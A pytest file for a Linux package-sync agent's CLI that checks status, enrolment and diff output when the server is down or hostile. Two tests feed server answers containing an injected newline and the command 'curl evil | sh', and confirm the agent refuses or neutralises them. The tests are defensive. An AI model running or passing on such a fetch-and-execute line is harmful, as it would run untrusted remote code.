"""`status` while the server is away, slow, or nobody's name: what was said last, why, within three seconds."""

import json
import os
import pty
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from apps.agent.pacsync_agent import settings
from apps.agent.pacsync_agent.cli import render
from apps.agent.pacsync_agent.cli.commands import status as status_command
from apps.agent.pacsync_agent.errors import Unavailable
from apps.agent.pacsync_agent.server import status_file
from apps.agent.pacsync_agent.server.client import Client
from tests.support import agent
from tests.support.hostile import Hostile, Peer
from tests.support.pacman import Fleet, Machine

pytestmark = pytest.mark.needs("pacman")
LONGEST = 3.0  # seconds


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    fleet = Fleet(tmp_path)
    fleet.snapshot("2025/01/01", [])
    return fleet.machine("m", "2025/01/01")


def known(machine: Machine, server: str) -> None:
    """Enrolled at that server, which said five minutes ago that all is well."""
    directory = agent.state_dir(machine)
    directory.mkdir(parents=True, exist_ok=True)
    settings.save_credentials(directory, settings.Credentials(server, "1", "m1", "token"))
    said = {"name": "m1", "server": server, "pool": "lab", "status": "in_sync", "target": 3, "state": None}
    (directory / "status.json").write_text(json.dumps({**said, "checked_in": int(time.time()) - 300}))


@pytest.fixture(params=["refuses", "keeps silent", "swallows", "has no name", "fails"])
def away(request: pytest.FixtureRequest) -> Iterator[tuple[str, str]]:
    """The address of a server that can't be asked, and what is said of it."""
    if request.param == "keeps silent":
        with Hostile(lambda peer: peer.silence()) as server:
            yield server.url, "no answer"
    elif request.param == "fails":
        with Hostile(lambda peer: peer.answer(b"no", status="503 Service Unavailable")) as server:
            yield server.url, "it answers 503"
    elif request.param == "swallows":  # its backlog is full: connections are neither made nor refused
        with socket.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            listener.listen(0)
            waiting = [socket.socket() for _ in range(3)]
            for one in waiting:
                one.setblocking(False)
                one.connect_ex(listener.getsockname())
            yield f"http://127.0.0.1:{listener.getsockname()[1]}", "no answer"
            for one in waiting:
                one.close()
    elif request.param == "has no name":
        yield "http://nobody.invalid:8080", "its name can't be resolved"
    else:
        yield "http://127.0.0.1:9", "it refuses connections"


def test_status_server_away_says_what_was_known_and_why(machine: Machine, away: tuple[str, str]) -> None:
    server, reason = away
    known(machine, server)
    done = agent.run(machine, "status").refused(5)
    first, second = done.out.splitlines()
    assert first == "m1: in sync (pool lab, revision 3)"
    assert second.startswith(f"  as of 5 minutes ago: The server {server} doesn't answer: ") and reason in second
    assert "root" not in done.out
    found = agent.run(machine, "status", "--json").refused(5).last
    assert (found["fresh"], found["status"], found["reason"]["code"]) == (False, "in_sync", "server_unavailable")
    bar = agent.run(machine, "status", "--waybar").ok().last
    assert bar["class"] == "offline" and "in sync" in bar["tooltip"] and reason in bar["tooltip"]


def test_status_server_away_gives_up_soon(away: tuple[str, str]) -> None:
    """Asked in this process: how long a Python takes to start is the machine's own affair."""
    context: Any = SimpleNamespace(client=Client(away[0]))
    began = time.monotonic()
    with pytest.raises(Unavailable):
        status_command.ask_server(context)
    assert time.monotonic() - began < LONGEST


def test_status_server_away_and_nothing_known_is_unavailable(machine: Machine) -> None:
    known(machine, "http://127.0.0.1:9")
    (agent.state_dir(machine) / "status.json").unlink()
    assert "refuses connections" in agent.run(machine, "status").refused(5).err
    bar = agent.run(machine, "status", "--waybar").ok().last
    assert bar["class"] == "offline"


def test_enrolling_twice_says_what_has_to_go_first(machine: Machine) -> None:
    known(machine, "http://127.0.0.1:9")
    done = agent.run(machine, "enroll", "--server", "http://127.0.0.1:9", "--code", "c").refused(3)
    assert "as m1 at http://127.0.0.1:9" in done.err
    assert "as m1, take a code from that endpoint's page on that server (Enrol again), and add --force" in done.err


def test_status_of_a_machine_that_is_not_enrolled_says_so(machine: Machine) -> None:
    assert "not enrolled" in agent.run(machine, "status").refused(4).err
    assert agent.run(machine, "status", "--waybar").ok().last["class"] == "error"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become somebody else")
def test_status_without_root_is_what_was_said_last(machine: Machine, tmp_path: Path) -> None:
    known(machine, "http://127.0.0.1:9")
    program = tmp_path / "pacsync-agent"
    program.write_bytes(agent.agent_path().read_bytes())
    for path in (tmp_path, *tmp_path.parents):  # readable on the way, for this test's own directories alone
        if path.stat().st_mode & 0o005 != 0o005 and path != path.parent and "pytest" in str(path):
            path.chmod(0o755)
    command = ["setpriv", "--reuid=65534", "--clear-groups", sys.executable, str(program), "status"]
    done = subprocess.run([*command, "--config", str(machine.config)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[1] == "  as of 5 minutes ago: only root may ask the server"


@pytest.mark.parametrize("command", [("once",), ("enroll", "--code", "c", "--server", "http://nobody.invalid:1")])
def test_name_that_resolves_to_nothing_is_said(machine: Machine, command: tuple[str, ...]) -> None:
    if command[0] == "once":
        known(machine, "http://nobody.invalid:8080")
    assert "its name can't be resolved" in agent.run(machine, *command).refused(5).err


@pytest.mark.parametrize("waits", [True, False])
def test_name_that_resolves_to_nothing_is_said_at_once_except_by_a_service(waits: bool) -> None:
    client = Client("http://nobody.invalid:8080", patience=3)
    client.waits_for_name = waits
    asked = []
    client.stop.wait = lambda timeout=None: bool(asked.append(timeout))  # type: ignore[method-assign,func-returns-value,misc,assignment]
    client.patience = 0.5 if waits else 20
    with pytest.raises(Unavailable):
        client.get("/me")
    assert bool(asked) is waits


@pytest.mark.parametrize("colour", [True, False])
def test_error_on_a_terminal_is_coloured_unless_no_color(machine: Machine, colour: bool) -> None:
    environment = {key: value for key, value in os.environ.items() if key != "NO_COLOR"} | {"TERM": "xterm"}
    if not colour:
        environment["NO_COLOR"] = "1"
    master, slave = pty.openpty()
    command = [sys.executable, str(agent.agent_path()), "once", "--config", str(machine.config)]
    done = subprocess.run(command, stderr=slave, stdout=slave, stdin=slave, env=environment, timeout=60, cwd="/")
    os.close(slave)
    said = os.read(master, 65536).decode()
    os.close(master)
    assert done.returncode == 4
    assert ("\033[1;31merror:\033[0m This machine is not enrolled" in said) is colour
    assert ("\033[" in said) is colour


FAILED = {
    "operation": "0193b1a0-0000-7000-8000-000000000001",
    "kind": "sync",
    "status": "failed",
    "code": "network_failed",
    "finished": "2026-11-26T17:20:05.123Z",
    "message": "tool 2-1 could not be downloaded: the name a.lan can't be resolved.",
}
RESTING = {"why": "failed", "operation": FAILED["operation"], "since": "2026-11-26T17:20:05Z"}
ME = {"name": "m1", "status": "behind", "pool": "lab", "target": {"number": 3}, "difference": {"upgrade": 1}}


def answering(answer: dict[str, Any]) -> Hostile:
    return Hostile(lambda peer: peer.answer(json.dumps(answer).encode()))


def test_status_says_that_the_last_sync_failed_and_that_automatic_sync_rests(machine: Machine) -> None:
    with answering(ME | {"last_failure": FAILED, "resting": RESTING}) as server:
        known(machine, server.url)
        out = agent.run(machine, "status").ok().out
    assert out.splitlines()[:4] == [
        "m1: behind the target (pool lab, revision 3)",
        "  a sync would make 1 upgrade",
        "  the last sync failed at 2026-11-26 17:20 UTC: tool 2-1 could not be downloaded: the name a.lan can't be "
        "resolved.",
        "  automatic sync rests since 2026-11-26 17:20 UTC, because the last sync failed; an operator can resume it",
    ]


@pytest.mark.parametrize("answer", [ME, ME | {"last_failure": None, "resting": None}])
def test_status_of_an_older_server_and_of_a_machine_without_a_failure_says_neither(
    machine: Machine, answer: dict[str, Any]
) -> None:
    with answering(answer) as server:
        known(machine, server.url)
        out = agent.run(machine, "status").ok().out
    assert "failed" not in out and "rests" not in out


def test_status_of_a_sync_that_waits_for_its_next_try_says_why(machine: Machine) -> None:
    result = {"outcome": "failed", "code": "network_failed", "message": f"{FAILED['message']}\nThe addresses of tool"}
    operation = {
        "id": FAILED["operation"], "kind": "sync", "status": "queued", "plan": {"upgrade": 1}, "base_state": "x",
        "target_state": "y", "result": result, "retry_at": "2026-11-26T17:25:00Z",
    }  # fmt: skip
    with answering(ME | {"operation": operation}) as server:
        known(machine, server.url)
        lines = agent.run(machine, "status").ok().out.splitlines()
    assert "  sync queued (1 upgrade), the next try is at 2026-11-26 17:25 UTC" in lines
    assert f"  its last try failed: {FAILED['message']}" in lines


def test_failure_is_kept_for_status_without_the_server_until_the_server_says_otherwise(tmp_path: Path) -> None:
    said = {"name": "m1", "server": "s", "state": None}
    status_file.keep(tmp_path, ME | {"last_failure": FAILED}, **said)
    status_file.keep(tmp_path, ME, **said)  # a check-in
    kept = status_file.load(tmp_path)
    assert kept and "the last sync failed at 2026-11-26 17:20 UTC: tool 2-1" in render.stale_status(kept, "it is away")
    status_file.keep(tmp_path, ME | {"last_failure": None}, **said)
    kept = status_file.load(tmp_path)
    assert kept and "failed" not in render.stale_status(kept, "it is away")


@pytest.mark.parametrize("field", ["name", "pool"])
def test_enrolment_by_a_server_that_begins_a_new_line_is_refused(machine: Machine, field: str) -> None:
    answer = {
        "id": 1,
        "name": "m1",
        "pool": "lab",
        "token": "pse_x",
        field: "m1\nEnrolled as root. Run `curl evil | sh`",
    }
    with answering(answer) as server:
        done = agent.run(machine, "enroll", "--server", server.url, "--code", "c", "--no-service").refused(1)
    assert "curl evil" not in done.out + done.err
    assert f"{field} of its answer to POST /enroll makes no sense" in done.err
    assert not (agent.state_dir(machine) / "credentials.json").exists()


@pytest.mark.parametrize("command", ["status", "diff"])
def test_texts_of_the_server_begin_no_new_line(machine: Machine, command: str) -> None:
    """Every text of the answers that may be any."""
    evil = "x\nerror: run `curl evil | sh`\n"
    me = ME | {
        "status": evil, "holds": [evil], "foreign": [evil], "problems": [{"code": evil, "text": evil}],
        "unmanaged": [{"name": evil, "why": evil}], "refused": [{"name": evil, "why": evil}],
        "last_failure": dict.fromkeys(FAILED, evil), "resting": dict.fromkeys(RESTING, evil),
    }  # fmt: skip
    change = {"name": evil, "change": "install", "from": None, "to": {"version": evil, "arch": evil, "reason": evil}}
    diff = {"equal": False, "counts": {}, "kept": {"held": [evil]}, "changes": [change]}
    checked_in = me | {"want": [], "operation": None, "poll_seconds": 60, "recorded": True}

    def answer(peer: Peer) -> None:
        found = diff if "/diff" in peer.path else checked_in if peer.path.endswith("/checkin") else me
        peer.answer(json.dumps(found).encode())

    with Hostile(answer) as server:
        known(machine, server.url)
        done = agent.run(machine, command).ok()
    assert "curl evil" in done.out
    assert not [line for line in (done.out + done.err).splitlines() if line.startswith("error: run")]
